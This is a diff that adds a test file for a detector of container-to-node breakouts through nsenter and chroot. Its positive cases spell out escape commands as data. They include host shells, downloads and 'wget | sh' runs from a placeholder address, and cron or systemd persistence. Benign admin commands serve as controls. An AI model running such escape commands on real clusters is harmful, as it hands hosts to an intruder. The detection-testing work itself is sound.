@@ -1,0 +1,42 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { blank, cronJob, indicatorTable, mounting, runs, script, scriptOn, UNSEEN } from '../testing.ts';
+import { CUSTOMARY_ROOTS } from '../text/entry.ts';
+import { commandHostEntry } from './host-entry.ts';
+
+const elsewhere = (text: string) => cronJob(mounting('/', { mountPath: '/x' }, ['sh', '-c', text]));
+
+indicatorTable(commandHostEntry, {
+  fires: {
+    'nsenter with a shell': runs('nsenter', '--target', '1', '--mount', '--uts', '--', '/bin/bash'),
+    'nsenter without a program': runs('nsenter', '-t', '1', '-m', '-p'),
+    'the target joined to its letter': runs('nsenter', '-mt1', 'sh'),
+    'the target with an equals sign': runs('/nsenter', '--all', '--target=1', '--', 'su', '-'),
+    'namespaces by their paths': runs('nsenter', '--mount=/proc/1/ns/mnt', '--', 'bash'),
+    'nsenter that downloads': script('nsenter -t 1 -m -- curl -so /usr/local/bin/a http://203.0.113.7/a'),
+    'nsenter that makes a unit stay': script("nsenter -t 1 -m -- sh -c 'systemctl enable --now agent'"),
+    'a chroot to where the root is mounted': scriptOn('/', 'chroot /host'),
+    'the same at an unusual place': elsewhere('chroot /x /bin/bash'),
+    'the same through a variable': elsewhere('chroot "$ROOT" bash'),
+    'a chroot that writes a cron entry': scriptOn('/', `chroot /host sh -c 'echo "* * * * * root id" > /etc/cron.d/a'`),
+    'a chroot fed by a here-document': scriptOn('/', 'chroot /host <<EOF\ncurl http://203.0.113.7/a -o /a\nEOF\n'),
+    'a chroot where the body was cut before the volumes': script('chroot /host /bin/sh'),
+    'behind a shell and wrappers': script("sudo env A=b nsenter -t 1 -a bash -c 'wget -qO- http://203.0.113.7/a | sh'"),
+    'a shell started from a shell': script("nsenter -t 1 -m -- sh -c 'cd /; bash -i'"),
+  },
+  staysSilent: {
+    'one named command': runs('nsenter', '-t', '1', '-m', '--', 'sysctl', '-w', 'vm.max_map_count=262144'),
+    'named commands in a shell': script("nsenter -t 1 -m -- sh -c 'systemctl restart kubelet && journalctl -n 5'"),
+    'a backup of etcd': scriptOn('/', 'chroot /host /usr/local/bin/cluster-backup.sh /home/core/backup'),
+    'nsenter into another process': script('nsenter -t 4711 -n ss -tlnp'),
+    'a chroot into a tree of its own': script('chroot /build/rootfs /bin/sh -c "apk add curl"'),
+    'the word in a text': script('echo nsenter -t 1'),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+for (const root of CUSTOMARY_ROOTS) {
+  test(`${root} is taken for the root of the node`, () =>
+    assert.equal(commandHostEntry.assess(script(`chroot ${root}/ /bin/sh`)).kind, 'hit'));
+}
